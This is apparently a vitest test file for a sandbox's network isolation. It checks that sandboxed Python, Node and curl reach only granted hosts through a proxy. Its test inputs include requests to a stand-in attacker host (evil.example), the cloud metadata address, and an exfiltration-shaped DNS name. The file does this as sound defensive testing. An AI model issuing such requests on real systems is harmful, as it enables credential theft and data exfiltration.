import { createServer } from 'node:http';
import { createServer as createTcp } from 'node:net';
import { afterEach, describe, expect, test } from 'vitest';
import { proxyEnvironment } from '../../../../host/sandbox/network/network.ts';
import { NODE, runSandboxed, STARTS, testSandboxed } from './sandboxed.ts';

const ends: (() => void)[] = [];
afterEach(() => {
  for (const end of ends.splice(0).reverse()) end();
});

/** An HTTP server on the host’s loopback, and how often it was asked. */
async function web(): Promise<{ at: string; asked: string[] }> {
  const asked: string[] = [];
  const server = createServer((message, reply) => {
    asked.push(message.url ?? '');
    reply.end('granted');
  });
  ends.push(() => {
    server.close();
    server.closeAllConnections();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { at: `127.0.0.1:${(server.address() as { port: number }).port}`, asked };
}

const PYTHON = `
import sys, urllib.request
for url in sys.argv[1:]:
    try: print(urllib.request.urlopen(url, timeout=20).read().decode())
    except Exception as error: print(type(error).__name__, error)
`;

/** Everything a program may try that does not know of proxies: each prints its error, or "REACHED". */
const RAW = `
import socket, sys
host, port = sys.argv[1].split(':')
def attempt(name, run):
    try: print(name, 'REACHED', run())
    except Exception as error: print(name, type(error).__name__)
attempt('tcp', lambda: socket.create_connection((host, int(port)), 5))
attempt('lan', lambda: socket.create_connection(('192.168.0.1', 80), 5))
attempt('public', lambda: socket.create_connection(('8.8.8.8', 53), 5))
attempt('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53)))
attempt('udp6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'x', ('2001:4860:4860::8888', 53)))
attempt('dns', lambda: socket.getaddrinfo('granted.example', 443))
attempt('interfaces', lambda: [name for _, name in socket.if_nameindex() if name != 'lo'][0])
`;

describe.each(STARTS)('openNetwork() in a sandbox $name', ({ isDropped }) => {
  testSandboxed('/usr/bin/python3', 'python3')('lets Python reach what was granted, and nothing else', async () => {
    const { at, asked } = await web();
    const other = await web();

    const { stdout, denied } = await runSandboxed({
      command: [
        '/usr/bin/python3',
        '-c',
        PYTHON,
        `http://${at}/a`,
        `http://${other.at}/b`,
        'http://evil.example/',
        'https://evil.example/',
        'http://169.254.169.254/',
      ],
      rules: [at],
      isDropped,
    });

    const lines = stdout.trim().split('\n');
    expect(lines[0]).toBe('granted');
    expect(lines).toHaveLength(5);
    for (const line of lines.slice(1)) expect(line).toContain('403');
    expect([asked, other.asked]).toEqual([['/a'], []]);
    expect(denied.map(({ host, port }) => `${host}:${port}`)).toEqual([
      other.at,
      'evil.example:80',
      'evil.example:443',
      '169.254.169.254:80',
    ]);
  });

  testSandboxed('/usr/bin/python3', 'python3')('leaves programs that go around the proxy without any network', async () => {
    const { at, asked } = await web();

    const { stdout } = await runSandboxed({ command: ['/usr/bin/python3', '-c', RAW, at], rules: [at, '*'], isDropped });

    expect(
      stdout
        .trim()
        .split('\n')
        .map((line) => line.split(' ')[0]),
    ).toEqual(['tcp', 'lan', 'public', 'udp', 'udp6', 'dns', 'interfaces']);
    expect(stdout).not.toContain('REACHED');
    expect(asked).toEqual([]);
  });

  testSandboxed('/usr/bin/python3', 'python3')(
    'resolves no name that is not granted, and dials no address that a name was turned to',
    async () => {
      const { at, asked } = await web();
      const port = at.split(':')[1];
      const resolved: string[] = [];
      const lookup = (name: string): Promise<string[]> => Promise.resolve(resolved.push(name) > 0 ? ['127.0.0.1'] : []);

      const { stdout } = await runSandboxed({
        command: ['/usr/bin/python3', '-c', PYTHON, `http://data-to-leak.evil.example:${port}/`, `http://granted.example:${port}/`],
        rules: [`granted.example:${port}`],
        lookup,
        isDropped,
      });

      expect(stdout.match(/403/g)).toHaveLength(2);
      expect(resolved).toEqual(['granted.example']);
      expect(asked).toEqual([]);
    },
  );
});

testSandboxed()('openNetwork() lets the fetch of Node reach what was granted, and nothing else', async () => {
  const { at, asked } = await web();
  const script = `for (const url of process.argv.slice(1)) console.log(await fetch(url).then((r) => r.status === 200 ? r.text() : r.status, (e) => 'refused'))`;

  const { stdout } = await runSandboxed({
    command: [
      NODE,
      '--disable-warning=ExperimentalWarning',
      '--input-type=module',
      '-e',
      script,
      `http://${at}/a`,
      'http://evil.example/',
      'https://evil.example/',
    ],
    rules: [at],
  });

  expect(stdout.trim().split('\n')).toEqual(['granted', expect.stringMatching(/403|refused/), 'refused']);
  expect(asked).toEqual(['/a']);
});

testSandboxed('/usr/bin/curl', 'curl')('openNetwork() carries a tunnel of curl', async () => {
  const { at } = await web();

  const { stdout } = await runSandboxed({ command: ['/usr/bin/curl', '-sS', '-m', '20', '-p', `http://${at}/`], rules: [at] });

  expect(stdout).toBe('granted');
});

testSandboxed('/usr/bin/python3', 'python3')('close() of a network ends the tunnels of a plugin that lives on', async () => {
  const server = createTcp((socket) => socket.on('error', () => {}).write('hello'));
  ends.push(() => server.close());
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const at = `127.0.0.1:${(server.address() as { port: number }).port}`;
  const script = `
import socket, sys
s = socket.create_connection(('127.0.0.1', 3128), 20)
s.sendall(f'CONNECT ${at} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'.encode())
while b'hello' not in s.recv(1000): pass
print('open', flush=True)
try: print('end' if s.recv(1000) == b'' else 'data')
except ConnectionResetError: print('end')
try: socket.create_connection(('127.0.0.1', 3128), 20); print('open again')
except ConnectionRefusedError: print('closed')
`;

  const { stdout } = await runSandboxed({ command: ['/usr/bin/python3', '-c', script], rules: [at], closeAt: 'open' });

  expect(stdout.trim().split('\n')).toEqual(['open', 'end', 'closed']);
});

test('proxyEnvironment() names the proxy in both cases and leaves nothing out of it', () => {
  const found = proxyEnvironment();

  expect(found).toMatchObject({
    HTTPS_PROXY: 'http://127.0.0.1:3128',
    http_proxy: 'http://127.0.0.1:3128',
    NODE_USE_ENV_PROXY: '1',
    NO_PROXY: '',
  });
  expect(Object.keys(found)).not.toContain('ALL_PROXY');
});
